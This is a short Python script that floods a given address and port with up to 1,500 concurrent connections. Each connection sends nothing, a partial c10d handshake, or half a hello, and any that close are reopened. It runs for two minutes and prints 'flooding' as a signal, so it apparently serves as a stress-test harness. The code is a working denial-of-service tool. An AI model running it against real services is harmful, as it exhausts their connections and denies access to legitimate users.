"""flood.py ADDRESS PORT [IDLE [hellos]]: open many connections at once, which send nothing, the first bytes of c10d, or half a
hello (with `hellos` nothing else), and reopen those that are closed. IDLE connections between sockets of this program come
first, so that the kernel has many sockets to search. Prints "flooding" after the first 300, and ends after two minutes.
"""
import contextlib
import resource
import selectors
import socket
import struct
import sys
import time

OPENINGS = (b"", struct.pack("=BI", 0, 0x3C85F7CE), b"\xdddr\x01\x00")[2 if len(sys.argv) > 4 else 0:]
AT_ONCE, BURST = 1500, 100

address, port, end = sys.argv[1], int(sys.argv[2]), time.monotonic() + 120
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
idle = []
with socket.create_server(("127.0.0.1", 0)) as listener:
    for _ in range(int(sys.argv[3]) if len(sys.argv) > 3 else 0):
        idle.append((socket.create_connection(listener.getsockname()), listener.accept()[0]))
selector = selectors.DefaultSelector()
opened = 0
while time.monotonic() < end:
    for i in range(min(BURST, AT_ONCE - len(selector.get_map()))):
        s = socket.socket()
        s.setblocking(False)
        with contextlib.suppress(OSError):
            s.connect_ex((address, port))
            selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, OPENINGS[(opened + i) % len(OPENINGS)])
    before = opened
    for key, events in selector.select(0.01):
        if events & selectors.EVENT_WRITE and not events & selectors.EVENT_READ:
            opened += 1
            with contextlib.suppress(OSError):
                key.fileobj.send(key.data)
            selector.modify(key.fileobj, selectors.EVENT_READ)
            continue
        selector.unregister(key.fileobj)
        key.fileobj.close()
    if before < 300 <= opened:
        print("flooding", flush=True)
